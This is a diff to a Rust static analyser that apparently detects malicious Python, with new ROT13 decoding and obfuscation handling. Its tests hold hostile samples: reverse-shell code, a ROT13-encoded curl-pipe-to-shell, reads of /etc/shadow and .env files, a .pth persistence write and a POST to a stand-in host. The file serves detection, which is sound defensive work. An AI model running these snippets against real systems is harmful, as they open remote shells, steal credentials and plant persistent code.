+            s,
+            "sh" | "ash" | "bash" | "zsh" | "ksh" | "dash" | "cmd" | "pwsh"
+        )
+    {
+        acc.set(F::ShellStr);
     }
     if s.len() < 4 {
         return;
@@ -837,7 +1338,15 @@ fn string(t: &Token, depth: u8, executed: bool, acc: &mut Acc) {
     }
     // Code kept in a plain string and executed (`exec("import socket\n…")`) is scanned as
     // code too; docstrings with example code are not.
-    if executed
+    // ROT13-encoded code, in a file that names the rot13 codec.
+    if acc.rot13 && s.len() >= 16 && depth < MAX_DEPTH && acc.decoded_budget < DECODE_BUDGET {
+        let plain: String = s.chars().map(rot13).collect();
+        payload(plain.as_bytes(), depth, acc);
+    }
+    // Code that starts as code (a `.pth` line, `python -c` text handed to a shell) is
+    // scanned as code even when not passed to exec; prose that mentions code is not.
+    let code_first = s.starts_with("import ") && (s.contains(';') || s.contains('\n'));
+    if (executed || code_first)
         && s.len() >= 16
         && depth < MAX_DEPTH
         && acc.decoded_budget < DECODE_BUDGET
@@ -846,6 +1355,26 @@ fn string(t: &Token, depth: u8, executed: bool, acc: &mut Acc) {
         acc.decoded_budget += s.len();
         let (tokens, _) = tokenize(s);
         scan(s, &tokens, depth + 1, acc);
+    }
+}
+
+/// Whether `b` names the rot13 codec (`rot13`, `rot_13`, `rot-13`, any case).
+fn names_rot13(b: &[u8]) -> bool {
+    memchr::memmem::find_iter(b, b"13").any(|at| {
+        let before = &b[..at];
+        let before = before
+            .strip_suffix(b"_")
+            .or_else(|| before.strip_suffix(b"-"))
+            .unwrap_or(before);
+        before.len() >= 3 && before[before.len() - 3..].eq_ignore_ascii_case(b"rot")
+    })
+}
+
+fn rot13(c: char) -> char {
+    match c {
+        'a'..='m' | 'A'..='M' => char::from(c as u8 + 13),
+        'n'..='z' | 'N'..='Z' => char::from(c as u8 - 13),
+        _ => c,
     }
 }
 
@@ -1177,5 +1706,90 @@ mod tests {
         ] {
             let _ = extract(s);
         }
+    }
+}
+
+#[cfg(test)]
+mod understanding_tests {
+    #![allow(clippy::unwrap_used, reason = "tests")]
+    use super::*;
+
+    fn on(src: &str, f: F) -> bool {
+        extract(src).named[f as usize] > 0.0
+    }
+
+    #[test]
+    fn aliases_are_resolved() {
+        let src = "import socket as S, os as O, pty as P\nk = S.socket()\nk.connect(a)\nO.dup2(k.fileno(), 0)\nP.spawn('x')";
+        assert!(on(src, F::Pty));
+        assert!(on(src, F::RevShell));
+        assert!(on(
+            "from subprocess import run as go\ngo(['ls'])",
+            F::Subprocess
+        ));
+        assert!(on("from os import system\nsystem('id')", F::OsSystem));
+        assert!(on("m = __import__('so' + 'cket')\nm.socket()", F::Socket));
+        assert!(on("s = os.system\ns('id')", F::OsSystem));
+        // A plain `run()` of one's own is not subprocess.
+        assert!(!on("def run():\n    pass\nrun()", F::Subprocess));
+        assert!(!on("import numpy as np\nnp.array([1])", F::Subprocess));
+    }
+
+    #[test]
+    fn strings_in_pieces_are_folded() {
+        let src = "O = __import__('so'[::-1] + 'cket')\nQ = __import__(''.join(['p', 't', 'y']))\ngetattr(Q, 'sp' + 'awn')('/bin/' + 'bash')";
+        assert!(on(src, F::Socket) || on(src, F::DynImport));
+        assert!(on(src, F::Pty));
+        assert!(on(src, F::ShellStr));
+        assert!(on(
+            "x = chr(47)+chr(98)+chr(105)+chr(110)+chr(47)+chr(115)+chr(104)",
+            F::ShellStr
+        ));
+        assert!(on("getattr(os, 'sys' + 'tem')('id')", F::OsSystem));
+    }
+
+    #[test]
+    fn character_code_lists_are_decoded() {
+        let codes: Vec<String> = "import os;os.system('id')"
+            .bytes()
+            .map(|b| b.to_string())
+            .collect();
+        let src = format!("exec(''.join(map(chr, [{}])))", codes.join(","));
+        assert!(on(&src, F::OsSystem));
+        assert!(on(&src, F::HiddenExec));
+        // Numbers that are not text stay numbers.
+        assert!(!on(
+            "x = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17]",
+            F::Hidden
+        ));
+    }
+
+    #[test]
+    fn rot13_payloads_are_decoded() {
+        let src = "import codecs\ns = 'vzcbeg bf;bf.flfgrz(\"phey uggc://k | fu\")'\nexec(codecs.decode(s, 'rot_13'))";
+        assert!(on(src, F::OsSystem));
+        assert!(on(src, F::DecodeExec));
+        assert!(!on("s = 'vzcbeg bf;bf.flfgrz(\"vq\")'", F::OsSystem));
+        assert!(names_rot13(b"x.decode('ROT-13')"));
+        assert!(!names_rot13(b"x = 13; rot = 1"));
+    }
+
+    #[test]
+    fn shells_secrets_and_pth_files() {
+        assert!(on("import socket,subprocess;s=socket.socket();s.connect(a);subprocess.Popen(['bash','-i'],stdin=s)", F::SockShell));
+        assert!(on("print(open('/etc/shadow').read())", F::SecretRead));
+        assert!(on("s.sendfile(open('/app/.env', 'rb'))", F::SecretRead));
+        assert!(!on("print(open('/etc/hosts').read())", F::SecretRead));
+        assert!(on(
+            "import os\nprint({k: v for k, v in os.environ.items() if 'TOKEN' in k})",
+            F::EnvSecrets
+        ));
+        assert!(on("import site; open(site.getsitepackages()[0] + '/x.pth', 'w').write('import os;os.system(\"id\")')", F::Persist));
+        assert!(on("import site; open(site.getsitepackages()[0] + '/x.pth', 'w').write('import os;os.system(\"id\")')", F::OsSystem));
+        assert!(!on("torch.save(model, 'model.pth')", F::Persist));
+        assert!(on(
+            "import urllib.request as u\nu.urlopen('http://x/e', data=b'1')",
+            F::Post
+        ));
     }
 }
